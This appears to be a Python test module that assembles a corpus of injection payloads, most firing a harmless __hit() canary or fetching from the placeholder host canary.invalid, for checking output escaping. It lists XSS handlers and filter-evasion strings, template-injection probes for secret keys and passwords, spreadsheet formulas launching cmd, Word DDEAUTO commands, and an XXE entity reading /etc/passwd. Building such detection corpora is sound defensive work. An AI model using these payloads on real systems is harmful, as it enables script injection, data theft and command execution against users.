"""Texts that would like to be more than text: our own corpus, each made to run `__hit()`, to fetch or to come alive.

What makes an element carries the attribute `mk`, so that one come alive is found though nothing of it ran.
"""

from __future__ import annotations

FAR = "//canary.invalid/x"
HANDLERS = (
    *("img src=x|onerror", "svg|onload", "body|onload", "body|onpageshow", "input autofocus|onfocus", "b|onclick"),
    *("details open|ontoggle", "video src=x|onerror", "audio src=x|onerror", "marquee|onstart", "b|onmouseover"),
    *("select autofocus|onfocus", "textarea autofocus|onfocus", "iframe|onload", "object data=x|onerror", "q|onwheel"),
    *("style|onload", "link rel=stylesheet href=x|onerror", "script src=x|onerror", "p tabindex=1 autofocus|onfocus"),
    *("b|onpointerenter", "form|onsubmit", "button|onclick", "b style=animation:x|onanimationstart", "math|onclick"),
    *("dialog open|oncancel", "b hidden=until-found|onbeforematch", "x contenteditable|onblur", "img srcset=x|onerror"),
    *("image src=x|onerror", "embed src=x|onload", "video><source|onerror", "svg><animate|onbegin", "svg><set|onend"),
    *("meter|onmouseover", "a href=#x id=x|onfocusin", "b popover|onbeforetoggle", "track|oncuechange"),
    *("b|ontransitionend", "body|onhashchange", "body|onmessage", "frameset|onload", "input type=image src=x|onerror"),
)
BREAKS = (
    *('">', "'>", "-->", "]]>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</option></select>"),
    *("</template>", "</noscript>", "</svg>", "</a>", "</td></tr></table>", "</dialog>", "--!>", "\\'>", '\\">'),
)
INTO_ATTRIBUTES = (
    '" mk onmouseover="__hit()',
    "' mk onfocus='__hit()' autofocus='",
    "x mk onpointermove=__hit() y=",
    ' mk autofocus onfocus="__hit()"',
    '" mk style="background:url(//canary.invalid)',
    '"mk accesskey="x"onclick="__hit()',
    '" mk hx-get="/__hit" hx-trigger="load',
    '" mk data-hx-on:load="__hit()',
    '" mk formaction="javascript:__hit()',
    "\n mk onclick=__hit()\n",
    '"/mk/onmouseover="__hit()',
    '" mk slot="x" popovertarget="y',
)
ADDRESSES = (
    *("javascript:__hit()", "JaVaScRiPt:__hit()", "java\tscript:__hit()", "javascript&colon;__hit()"),
    *("&#106;avascript:__hit()", "\x01javascript:__hit()", "vbscript:__hit()", "javascript://%0a__hit()"),
    *("data:text/html,<script mk>__hit()</script>", "data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+"),
    *("data:image/svg+xml,<svg mk onload=__hit()>", FAR, "\\\\canary.invalid\\x", "feed:javascript:__hit()"),
    *("<a mk href=javascript:__hit()>x</a>", "<form mk action=javascript:__hit()><input type=submit>"),
    *("<button mk formaction=javascript:__hit()>x", "<iframe mk src=javascript:__hit()>", f"<base mk href={FAR}>"),
    *("<iframe mk srcdoc='<script>__hit()</script>'>", "<object mk data=javascript:__hit()>", "<a mk href='//[::1]'>"),
    *("<embed mk src=javascript:__hit()>", f"<meta mk http-equiv=refresh content='0;url={FAR}'>"),
    *(
        f"<link mk rel=stylesheet href={FAR}>",
        f"<link mk rel=prefetch href={FAR}>",
        "<area mk href=javascript:__hit()>",
    ),
    *("<svg><a mk xlink:href=javascript:__hit()><text>x", "<svg><use mk href='data:image/svg+xml,<svg/>'>"),
    *("<svg mk><script>__hit()</script></svg>", "<svg mk><foreignObject><img src=x onerror=__hit()>"),
    *("<math><maction mk xlink:href=javascript:__hit()>x", f"<img mk src={FAR}>", f"<img mk srcset={FAR}>"),
    *(f"<video mk poster={FAR}>", f"<input mk type=image src={FAR}>", f"<a mk ping={FAR} href=#>x</a>"),
    *(f"<table mk background={FAR}>", f"<script mk src={FAR}></script>", f"<portal mk src={FAR}>"),
)
DISGUISED = (
    *(
        "<script mk>__hit()</script>",
        "<ScRiPt mk>__hit()</sCrIpT>",
        "<script/mk>__hit()</script>",
        "<<script mk>__hit()",
    ),
    *("<script mk>__hit()//", "<scr<script>ipt mk>__hit()</scr</script>ipt>", "<script\fmk>__hit()</script>"),
    *("%3Cscript%3E__hit()%3C/script%3E", "&lt;script mk&gt;__hit()&lt;/script&gt;", "&amp;lt;b mk&amp;gt;"),
    *("\\u003cscript mk\\u003e__hit()", "\\x3cscript mk\\x3e__hit()", "+ADw-script+AD4-__hit()+ADw-/script+AD4-"),
    *(
        "＜script＞__hit()＜/script＞",
        "%c0%bcscript%c0%be__hit()",
        "&#x3c;b mk onclick=__hit()&#x3e;",
        "&#0000060b mk&#62",
    ),
    '<noscript><p title="</noscript><img mk src=x onerror=__hit()>">',
    '<svg></p><style><a id="</style><img mk src=1 onerror=__hit()>">',
    "<math><mtext><table><mglyph><style><!--</style><img mk src=x onerror=__hit()>",
    "<form><math><mtext></form><form><mglyph><style></math><img mk src=x onerror=__hit()>",
    *(
        "<listing>&lt;img mk src=x onerror=__hit()&gt;",
        "<xmp mk>",
        "<plaintext mk>",
        "<!--<b mk>",
        "<![CDATA[<b mk>]]>",
    ),
    *("<?xml-stylesheet href='javascript:__hit()'?>", "<b mk", "<b/mk/onclick=__hit()>", "<q mk>", "&NewLine;<q mk>"),
    *("<template shadowrootmode=open><script>__hit()</script></template>", "\u202e<b mk>", "\ufeff<b mk>", "İ<b mk>"),
    *("<svg><desc><![CDATA[</desc><script mk>__hit()</script>]]></svg>", "<x mk/ onclick=__hit()>", "<b\xa0mk>"),
)
OF_FRAMEWORKS = (
    *("<b mk hx-on:load=__hit()>", "<b mk hx-on::load=__hit()>", "<b mk data-hx-on-click=__hit()>"),
    *("<b mk hx-get=/__hit hx-trigger=load>", "<b mk data-hx-get=/__hit data-hx-trigger=load>"),
    *("<b mk hx-vals='js:{a:__hit()}'>", "<b mk hx-trigger='load[__hit()]'>", "<b mk hx-swap-oob=innerHTML:body>"),
    *("<b mk hx-headers='js:__hit()'>", "<b mk hx-boost=true hx-target=body>", "<b mk _='on load call __hit()'>"),
    *("<b mk x-data x-init=__hit()>", "<b mk v-html=__hit()>", "{{constructor.constructor('__hit()')()}}"),
    *("<b mk ng-app>{{__hit()}}", "<b mk data-bs-toggle=tooltip>", "<b mk hx-ext=../__hit>", "<b mk is=x-y>"),
)
TEMPLATES = (
    *(
        "{{__hit()}}",
        "{% debug %}",
        "{{ settings.SECRET_KEY }}",
        "{{request.user.password}}",
        "${__hit()}",
        "`${__hit()}`",
    ),
    *("#{__hit()}", "<%= __hit() %>", "{{7*7}}", '{% include "people/login.html" %}', "{{x|safe}}", "%(detail)s"),
    *("{subject.__class__}", "{0.__class__.__mro__}", "{reason!r:>99}", "%s%n%x", "{% csrf_token %}", "{# x #}", "{"),
)
SCRIPTS = (
    *("';__hit();//", '";__hit();//', "\\';__hit();//", "</script><script mk>__hit()</script>", "\u2028__hit()"),
    *(
        '"}];__hit();[{"',
        "*/__hit()/*",
        "<!--<script>",
        "`;__hit();`",
        "__hit()",
        "\r\n\r\n<script mk>__hit()</script>",
    ),
    '{"type":"Feature","properties":{"name":"<img mk src=x onerror=__hit()>"}}',
    *(
        "__proto__",
        "constructor",
        "<form mk id=csrfmiddlewaretoken>",
        "<a mk id=htmx name=config>",
        "<img mk name=body>",
    ),
)
STYLES = (
    *(f"<style mk>@import'{FAR}'</style>", f"x;background:url({FAR})", f"}}*{{background:url({FAR})}}"),
    *(f"<b mk style=background:url({FAR})>", "expression(__hit())", f'"]{{}}@import"{FAR}";', "<b mk class=danger>"),
)
SHEETS = (
    *('=HYPERLINK("http://canary.invalid","x")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"),
    *(
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        '=WEBSERVICE("http://canary.invalid")',
    ),
    *("\n=1+1", ";=1+1", '"=1+1', "%0A=1+1", "_x003c_b mk_x003e_", "_x000D_=1+1", "'=1+1", "{=1+1}"),
)
PAPERS = (
    *(
        '{ INCLUDEPICTURE "http://canary.invalid/x" }',
        '{DDEAUTO c:\\\\cmd.exe "/k calc"}',
        "]]></w:t>",
        "&xxe;",
        "&#0;",
    ),
    '<w:fldSimple w:instr="DDEAUTO cmd"/>',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
    *('<w:hyperlink r:id="rId1">', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'),
)


def corpus() -> tuple[str, ...]:
    """All of them, each once, in a fixed order."""
    handled = []
    for each in HANDLERS:
        tag, event = each.split("|")
        handled.append(f"<{tag} mk {event}=__hit()>")
    broken = [f"{each}<img src=x mk onerror=__hit()>" for each in BREAKS]
    named = (INTO_ATTRIBUTES, ADDRESSES, DISGUISED, OF_FRAMEWORKS, TEMPLATES, SCRIPTS, STYLES, SHEETS, PAPERS)
    return tuple(dict.fromkeys((*handled, *broken, *(text for texts in named for text in texts))))


def bins(most: int) -> list[str]:
    """The texts a field of so many characters holds, as many together as fit, first come first."""
    found, space = [], ""
    for text in (each for each in corpus() if len(each) <= most):
        if space and len(space) + 1 + len(text) > most:
            found.append(space)
            space = ""
        space = f"{space} {text}" if space else text
    return [*found, space] if space else found


NAMED = tuple((at, text.strip()) for at, text in enumerate(corpus()) if len(text.strip()) > 6)


def held(value: str) -> list[int]:
    """Which texts of the corpus stand in a value, by their places; the shortest are too common to tell."""
    plain = value.replace('\\"', '"').replace("\\\\", "\\")
    return [at for at, text in NAMED if text in value or text in plain]
